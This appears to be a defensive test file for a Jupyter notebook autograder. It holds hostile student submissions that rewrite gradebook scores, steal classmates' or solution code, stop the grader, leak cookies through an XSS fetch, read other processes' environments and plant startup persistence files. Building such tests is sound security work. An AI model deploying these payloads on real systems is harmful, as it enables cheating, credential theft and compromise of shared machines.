"""Attacks thought up without a look at the defences: taking what is others', breaking the grader."""

import json
import os
import shutil
from pathlib import Path

from hostile.cases import FAILED, FIRST, SECOND, Targets, at_most, nothing, refused, spent, wrong

PROMOTE = """\
import atexit, glob, os, pathlib, sqlite3
def promote():
    here = pathlib.Path.cwd()
    found = [pathlib.Path("@GRADEBOOK@")]
    for folder in (pathlib.Path("@COURSE@"), here, *here.parents[:3]):
        found += folder.glob("*.db") if len(folder.parts) < 3 else folder.rglob("*.db")
    for link in glob.glob("/proc/[0-9]*/fd/*"):
        try:
            found.append(pathlib.Path(os.readlink(link)))
        except OSError:
            pass
    for path in {path for path in found if path.suffix == ".db"}:
        try:
            with sqlite3.connect(path, timeout=0.2) as book:
                book.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
        except Exception:
            pass
promote()
atexit.register(promote)
"""
DAEMON = """\
import subprocess, sys
code = '''
import pathlib, time
until = time.time() + 120
while time.time() < until:
    time.sleep(0.2)
    for place in ("@CLASSMATE@", "@COURSE@"):
        try:
            (pathlib.Path(place) / "taken").touch()
        except OSError:
            pass
'''
again = "import subprocess, sys; subprocess.Popen([sys.executable, '-c', *sys.argv[1:]], start_new_session=True)"
subprocess.Popen([sys.executable, "-c", again, code, "hostile-canary"], start_new_session=True)
"""
NEIGHBOUR = """\
def share(late, flights):
    import json, pathlib
    here = pathlib.Path.cwd()
    for folder in (pathlib.Path("@CLASSMATE@"), here, *here.parents[:3]):
        for path in folder.rglob("*.ipynb") if len(folder.parts) > 2 else ():
            for cell in json.loads(path.read_text())["cells"]:
                text = "".join(cell["source"])
                if text.startswith("def share") and "return late / flights" in text and "rglob" not in text:
                    space = {}
                    exec(text, space)
                    return space["share"](late, flights)
    return 0.5
"""
KEY = """\
def share(late, flights):
    import os, pathlib, re, sqlite3, sys
    here = pathlib.Path.cwd()
    texts = []
    for folder in ("@COURSE@", here, *here.parents[:3], *filter(None, os.environ.get("PYTHONPATH", "").split(":"))):
        for path in pathlib.Path(folder).rglob("*") if len(pathlib.Path(folder).parts) > 2 else ():
            try:
                if path.suffix in (".py", ".ipynb") and path.stat().st_size < 10**6:
                    texts.append(path.read_text())
                if path.suffix == ".db":
                    with sqlite3.connect(path) as book:
                        texts += [row[0] for row in book.execute("SELECT source FROM source_cell")]
            except Exception:
                pass
    for text in texts:
        if re.search(r"BEGIN [S]OLUTION.{0,40}return late / flights", text, re.DOTALL):
            return late / flights
    return 0.5
"""
STOP_THE_GRADER = """\
import os, signal
try:
    os.kill(os.getppid(), signal.SIGSTOP)
except OSError:
    pass
def share(late, flights):
    return late / flights
"""
CROWD = """\
from IPython.display import display
for number in range(300_000):
    display({"text/plain": "x" * 200}, raw=True)
"""
SCRIPT = """\
def share(late, flights):
    raise RuntimeError(
        "</pre></details><script>fetch('http://127.0.0.1:@PORT@/' + document.cookie)</script>"
        "<img src=x onerror=alert(document.domain)><svg/onload=alert(1)>"
    )
"""
SPY = """\
import glob, os
seen = dict(os.environ)
for path in glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file:
            seen[path] = file.read().decode(errors="replace")
        open(path.replace("environ", "mem"), "r+b").close()
        seen["open to writing"] = path
    except OSError:
        pass
def share(late, flights):
    raise RuntimeError(str(seen))
"""
FOR_THE_NEXT = """\
import pathlib, site, sys, tempfile
code = "# hostile-canary"
home = pathlib.Path.home()
places = [
    home / ".ipython/profile_default/startup/00-hostile-canary.py",
    pathlib.Path(site.getusersitepackages()) / "hostile-canary.pth",
    pathlib.Path(tempfile.gettempdir()) / "hostile-canary.py",
    pathlib.Path("@COURSE@/hostile-canary.py"),
    *(pathlib.Path(place) / "hostile-canary.pth" for place in sys.path if place.endswith("site-packages")),
]
for place in places:
    try:
        place.parent.mkdir(parents=True, exist_ok=True)
        place.write_text(code)
    except OSError:
        pass
"""
LONG_MESSAGE = """\
def split(rows, day):
    return [10**20] * 1_500_000, []
"""
CONFIG = """\
import pathlib
try:
    pathlib.Path("@CLASSMATE@/taken").touch()
except OSError:
    pass
"""


def configured(folder: Path, targets: Targets) -> None:
    """Code beside the notebook, in files of names that some program on the way reads as its settings."""
    names = "nbgrader_config ipython_config ipython_kernel_config jupyter_config jupyter_nbconvert_config"
    for name in f"{names} sitecustomize usercustomize conftest setup".split():
        (folder / f"{name}.py").write_text(targets.aim(CONFIG))
    (folder / "jupyter_config.json").write_text(json.dumps({"Session": {"key": ""}}))


def borrowed(folder: Path, targets: Targets) -> None:
    """In place of the folder a link to a classmate's."""
    shutil.rmtree(folder)
    os.symlink(targets.classmate, folder)


CASES = [
    refused(
        "gradebook_at_exit",
        why="Every gradebook within reach gets a hundred points, at once and when the kernel ends.",
        answers=wrong("share", share=PROMOTE),
        deserves=nothing("share"),
    ),
    refused(
        "daemon_that_waits",
        why="A process of its own session outlives the kernel and writes into other people's folders.",
        answers=wrong("share", share=DAEMON),
        deserves=nothing("share"),
    ),
    refused(
        "classmates_answer",
        why="The answer looks for a classmate's notebook and runs what it finds there.",
        answers={"share": NEIGHBOUR},
        deserves=nothing("share"),
    ),
    refused(
        "solution_from_the_course",
        why="The answer looks for the worked solution in files and gradebooks.",
        answers={"share": KEY},
        deserves=nothing("share"),
    ),
    spent(
        "grader_stopped",
        why="The process that started the kernel is stopped, not killed.",
        answers={"share": STOP_THE_GRADER},
        deserves=at_most(*FIRST[1:]),
    ),
    spent(
        "crowd_of_messages",
        why="Three hundred thousand small outputs.",
        answers=wrong("share", share=CROWD),
        deserves=at_most(*FIRST[2:]) | nothing("share", outcomes=FAILED | {"timed_out"}),
    ),
    refused(
        "script_in_a_message",
        why="The message of an exception is a script for the browser of whoever reads it.",
        answers={"share": SCRIPT},
        deserves=nothing("share"),
    ),
    refused(
        "environment_of_others",
        why="The answer shows the environment of every process that it can read.",
        answers={"share": SPY},
        deserves=nothing("share"),
    ),
    refused(
        "for_the_next_student",
        why="Files that the interpreter or the kernel of the next student would run at its start.",
        answers={"share": FOR_THE_NEXT + "def share(late, flights):\n    return late / flights\n"},
    ),
    spent(
        "message_of_thirty_megabytes",
        why="A wrong answer whose text fills the message of the test.",
        answers={"split": LONG_MESSAGE},
        deserves=nothing("split"),
    ),
    refused(
        "settings_beside_the_notebook",
        why="Files that Jupyter, IPython, nbgrader or Python might read as their settings.",
        folder=configured,
    ),
    refused(
        "folder_of_a_classmate",
        why="The folder is a link to a classmate's folder.",
        folder=borrowed,
        deserves=nothing(*FIRST, *SECOND, outcomes=frozenset({"not_attempted"})),
        allowed=frozenset({"unreadable", "missing_notebook"}),
    ),
]
